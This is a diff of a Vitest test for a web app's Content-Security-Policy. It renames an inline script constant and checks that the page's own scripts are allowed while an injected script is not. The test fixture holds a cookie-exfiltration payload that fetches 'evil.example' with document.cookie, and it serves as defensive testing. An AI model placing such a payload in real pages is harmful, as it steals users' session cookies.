@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { APP_SCRIPTS_MARK, EARLY_TAP_SCRIPT } from '../../shared/pages/inline-scripts.ts';
+import { APP_SCRIPTS_MARK, HEAD_SCRIPT } from '../../shared/pages/inline-scripts.ts';
 import { htmlCsp } from './csp.ts';
 
 const sha256 = (text: string) =>
@@ -16,9 +16,9 @@ const injected = 'fetch("https://evil.example/?c="+document.cookie)';
 
 describe('the pages’ Content-Security-Policy', () => {
   it('allows the app’s own inline scripts, and not one injected into the content', () => {
-    const html = `<html><head><script>${EARLY_TAP_SCRIPT}</script></head><body><main><h1>Robe</h1><script>${injected}</script></main>${mark}<script>${router}</script><script type="module">import "/assets/entry.js";</script></body></html>`;
+    const html = `<html><head><script>${HEAD_SCRIPT}</script></head><body><main><h1>Robe</h1><script>${injected}</script></main>${mark}<script>${router}</script><script type="module">import "/assets/entry.js";</script></body></html>`;
     const allowed = scriptSrc(html);
-    expect(allowed).toContain(sha256(EARLY_TAP_SCRIPT));
+    expect(allowed).toContain(sha256(HEAD_SCRIPT));
     expect(allowed).toContain(sha256(router));
     expect(allowed).toContain(sha256('import "/assets/entry.js";'));
     expect(allowed).not.toContain(sha256(injected));
